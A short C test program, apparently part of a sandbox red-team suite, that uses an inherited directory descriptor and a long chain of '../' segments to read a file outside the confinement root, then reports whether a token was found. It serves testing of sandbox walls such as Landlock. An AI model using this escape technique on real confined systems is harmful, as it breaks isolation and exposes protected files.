// wall: descriptors  overlaps: landlock  source: RT-07
// Uses an inherited directory descriptor to leave the root. Arguments: fd, path, token.
#include "attack.h"

int main(int argc, char** argv) {
  int fd = Number(argc, argv, 1);
  const char* path = Argument(argc, argv, 2);
  char up[4096] = "";
  for (int i = 0; i < 40; ++i) strcat(up, "../");
  strncat(up, path + 1, sizeof up - strlen(up) - 1);
  char buffer[4096];
  if (ReadWhole(fd, up, buffer, sizeof buffer) < 0) return Stopped("openat");
  errno = ENODATA;
  return strstr(buffer, Argument(argc, argv, 3)) ? Succeeded("read") : Stopped("another file");
}
